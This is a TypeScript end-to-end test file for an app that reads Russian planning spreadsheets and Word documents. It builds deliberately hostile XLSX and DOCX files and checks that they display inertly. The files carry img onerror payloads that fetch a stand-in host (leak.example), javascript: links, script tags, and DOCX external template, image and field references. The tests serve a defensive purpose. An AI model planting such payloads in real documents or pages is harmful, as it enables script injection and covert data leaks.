import { viewNames as scheduleViews } from "../../src/pane/schedule/strings";
import { words, tabNames, roleNames } from "../../src/pane/strings";
import { docxOf, p, tbl, tc, tr } from "../support/docxOf";
import { drawnGrid } from "../support/drawnGrid";
import { writeXlsx } from "../support/writeXlsx";
import {
  contentTypes,
  OFFICE_RELS,
  rootRelationships,
  WORD_MAIN,
  zipOf,
} from "../support/zipOf";
import { documentXml, run } from "../support/docxOf";
import { withFindings } from "./support/planFiles";
import { freshWorkbench } from "./support/sessions";
import {
  mendAll,
  type PlanFile,
  until,
  type Workbench,
} from "./support/Workbench";

jest.setTimeout(180_000);

let workbench: Workbench;

freshWorkbench((opened) => {
  workbench = opened;
});

const image = `<img src=x onerror="fetch('http://leak.example/')">`;
const link = "javascript:alert(document.domain)";
const escaped = (text: string) =>
  text
    .replaceAll("&", "&amp;")
    .replaceAll("<", "&lt;")
    .replaceAll('"', "&quot;");

const sheet: PlanFile = {
  name: "hostile.xlsx",
  bytes: writeXlsx(
    drawnGrid(
      `План мероприятий на 2026 год ${image}
| ${image} | ${image} < | ${image} | ${image} | ${link} |
| 1 | Составить  график ${image} | ${link} | ${image} | ${image} |
| 2 | Собрать  согласия | 31.02.2026 | <script>alert(1)</script> |  |`,
      { kind: "workbook", header: false },
    ).grid,
  ),
};

const relation = (id: string, type: string, target: string) =>
  `<Relationship Id="${id}" Type="${OFFICE_RELS}/${type}" Target="${target}" TargetMode="External"/>`;
const drawing = `<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="9525" cy="9525"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="rImage" r:embed="rImage"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`;
const header = [
  "№",
  "Мероприятие",
  roleNames.deadline,
  "Ответственные",
  "Результат",
];

/** A document that would like to reach out: an image and a template elsewhere, a script in a link, another format inside. */
const document: PlanFile = {
  name: "hostile.docx",
  bytes: zipOf({
    "[Content_Types].xml": contentTypes({
      "word/document.xml": WORD_MAIN,
      "word/page.html": "text/html",
      "word/settings.xml":
        "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
    }),
    "_rels/.rels": rootRelationships("word/document.xml"),
    "word/document.xml": documentXml(
      [
        p(`План мероприятий на 2026 год ${escaped(image)}`),
        p(`<w:hyperlink r:id="rLink">${run("нажмите сюда")}</w:hyperlink>`),
        p(drawing),
        p(
          `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE "http://leak.example/field.png"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
        ),
        `<w:altChunk r:id="rChunk"/>`,
        tbl(
          tr(header),
          tr([
            "1",
            `Составить  график ${escaped(image)}`,
            escaped(link),
            "",
            escaped(image),
          ]),
          tr([
            "2",
            "Собрать согласия",
            "31.02.2026",
            tc(escaped(image)),
            "Список",
          ]),
        ),
      ].join(""),
    ),
    "word/page.html": `<script>parent.alert(1)</script><img src="http://leak.example/chunk.png">`,
    "word/settings.xml": `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE_RELS}"><w:attachedTemplate r:id="rTemplate"/></w:settings>`,
    "word/_rels/settings.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relation("rTemplate", "attachedTemplate", "http://leak.example/t.dotm")}</Relationships>`,
    "word/_rels/document.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relation("rLink", "hyperlink", link)}${relation("rImage", "image", "http://leak.example/image.png")}<Relationship Id="rChunk" Type="${OFFICE_RELS}/aFChunk" Target="page.html"/><Relationship Id="rSettings" Type="${OFFICE_RELS}/settings" Target="settings.xml"/></Relationships>`,
  }),
};

test.each([sheet, document])(
  "$name is shown as text and asks nobody for anything",
  async (file) => {
    const { page } = workbench;
    await workbench.openFile(file);
    await workbench.shows(image);
    await workbench.shows(link);
    for (const view of [
      tabNames.plan,
      tabNames.schedule,
      tabNames.protocol,
      tabNames.check,
    ]) {
      await workbench.tab(view);
      await page.getByRole("tabpanel").locator(":scope > *").first().waitFor();
    }
    if (await workbench.button(mendAll).count())
      await workbench.button(mendAll).click();
    for (let position = 1; position <= (await workbench.count()); position++) {
      const card = await workbench.finding(position);
      await card.getByRole("paragraph").first().click();
    }
    // No such element has come to be, in the page, in its shadow trees or in its frames.
    for (const frame of page.frames())
      expect(
        await frame.evaluate(() => {
          const roots: (Document | ShadowRoot)[] = [globalThis.document];
          for (const root of roots)
            for (const element of root.querySelectorAll("*"))
              if (element.shadowRoot) roots.push(element.shadowRoot);
          return roots.flatMap((root) =>
            [
              ...root.querySelectorAll(
                "img[src=x], [onerror], a[href^=javascript], a[href*=leak], img[src*=leak], object, embed",
              ),
            ].map(({ outerHTML }) => outerHTML),
          );
        }),
      ).toEqual([]);
  },
);

test("a thousand findings: only what is seen is in the page, and the last one can be reached", async () => {
  const { page } = workbench;
  await workbench.openFile(withFindings(1000));
  const count = await workbench.count();
  expect(count).toBeGreaterThanOrEqual(1000);
  const list = page.getByLabel(words.findings, { exact: true });
  expect(await list.locator("article").count()).toBeLessThan(40);
  await list.evaluate(async (element) => {
    for (let step = 0; step < 40; step++) {
      element.scrollBy(0, element.scrollHeight / 40);
      await new Promise(requestAnimationFrame);
    }
    element.scrollTo(0, element.scrollHeight);
  });
  await until(
    async () =>
      (await list.locator(`article[aria-posinset="${count}"]`).count()) === 1,
  );
  expect(await list.locator("article").count()).toBeLessThan(40);
  await list.getByRole("button", { name: words.fillIn }).last().click();
  await page
    .getByRole("textbox", { name: roleNames.responsible })
    .fill("Директор");
  await page.keyboard.press("Enter");
  await until(async () => (await workbench.count()) < count);
});

test("a table that tries to be endless is opened or refused, and the page lives on", async () => {
  await workbench.openFile({
    name: "wide.docx",
    bytes: docxOf(
      tbl(
        tr(header),
        ...Array.from({ length: 300 }, (_, at) =>
          tr([
            `${at}`,
            "а".repeat(3000),
            "до 1 марта 9999 г.",
            "б".repeat(3000),
            "",
          ]),
        ),
      ),
    ),
  });
  await workbench.tab(tabNames.schedule);
  await workbench.button(scheduleViews.calendar).waitFor();
});
